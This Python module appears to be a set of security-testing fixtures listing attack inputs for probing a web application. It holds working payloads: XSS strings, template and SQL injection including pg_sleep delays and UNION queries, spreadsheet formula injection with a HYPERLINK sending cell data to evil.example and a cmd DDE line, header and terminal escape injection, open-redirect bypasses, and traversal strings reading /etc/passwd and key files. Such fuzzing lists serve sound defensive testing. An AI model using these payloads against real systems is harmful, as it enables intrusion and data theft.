"""What attackers write where a text is asked for."""

HOOK = "__xss"
# What a payload makes is recognised by these: an element, an attribute, an address.
ELEMENT = "x-probe"
ATTRIBUTE = "data-probe"

# Each of them runs `__xss`, or makes an element or an attribute, where it is not escaped.
SCRIPTS = (
    f"<script>{HOOK}(1)</script>",
    f'"><img src=x onerror={HOOK}(2)><{ELEMENT}>',
    f"'><svg/onload={HOOK}(3)><{ELEMENT}>",
    f'" autofocus onfocus={HOOK}(4) {ATTRIBUTE}="1',
    f"' autofocus onfocus={HOOK}(5) {ATTRIBUTE}='1",
    f"javascript:{HOOK}(6)//",
    f"</title></textarea></style></script><script>{HOOK}(7)</script><{ELEMENT}>",
    f"<a href=javascript:{HOOK}(8) {ATTRIBUTE}=1>y</a>",
    f"--><{ELEMENT} {ATTRIBUTE}=1><!--",
    f"<iframe srcdoc='<script>parent.{HOOK}(9)</script>'></iframe>",
    f"&lt;{ELEMENT}&gt;&#60;script&#62;{HOOK}(10)&#60;/script&#62;",
    f"<b hx-get=/logout hx-trigger=load {ATTRIBUTE}=1>z</b>",
)

# A template that is filled a second time shows these as something else.
TEMPLATES = ("{{tenant}}", "{{{layout}}}", "{{#rows}}{{name}}{{/rows}}", "${7*7}", "{{=<% %>=}}")

# Each ends a text, a comment or a statement somewhere, is no valid pattern, or waits. Where one of
# them is not bound, the answer is an error of the server's, or late.
DELAY_SECONDS = 3
STATEMENTS = (
    "'",
    "\\",
    '%_"`$$;--/*',
    f"1;SELECT pg_sleep({DELAY_SECONDS})--",
    f"'||(SELECT pg_sleep({DELAY_SECONDS}))||'",
    f"1) OR (SELECT 1 FROM pg_sleep({DELAY_SECONDS}))=1--",
    "' UNION SELECT NULL,current_user,version()--",
    "99999999999999999999999",
    "-1",
    "\u0000",
    "[(*",
)

# The signs with which a spreadsheet begins a formula; each export must show them as text.
FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1+1)", "\uff1d1+1", " =1+1",
)

# Where a line of a log or a header would end, or a terminal would obey.
BREAKS = ("\r\n", "\n", "\r", "\x1b[31m", "\x1b]0;owned\x07", "\u2028", "\x85", "\x00", "\x08")

# Addresses of other sites, as they are smuggled past a check.
ELSEWHERE = (
    "//evil.example", "///evil.example", "/\\evil.example", "\\/evil.example", "\\\\evil.example",
    "https:evil.example", "https://evil.example", "http:/evil.example", "javascript:alert(1)",
    "/%09/evil.example", "/\t/evil.example", "\t//evil.example", " //evil.example",
    "/\n/evil.example", "/\r/evil.example", "%2f%2fevil.example", "//evil.example/%2e%2e",
    "@evil.example", "https://127.0.0.1@evil.example", "//\u3002evil.example", "/.//evil.example",
    "/;//evil.example", "/x/..//evil.example", "/..//evil.example", "//evil.example:80",
    "data:text/html,x", "/\x00/evil.example", "/%0d%0aSet-Cookie:evil=1",
    "/\r\nSet-Cookie: evil=1", "http://", "",
)

PATHS = (
    "../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%5c..%5c..%5c..%5cetc%5cpasswd", "..\\..\\..\\..\\etc\\passwd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc/passwd",
    "%e0%80%ae%e0%80%ae/etc/passwd", "....//....//....//etc/passwd", "/etc/passwd",
    "%2fetc%2fpasswd", "token.key", "..%2ftoken.key", "../token.key", "%2e%2e%2ftoken.key",
    "../secrets.key", "%00", "x%00.csv", "..%00/", "%2e", "%2e%2e", "..;/..;/etc/passwd",
    "file:%2f%2f%2fetc%2fpasswd",
)
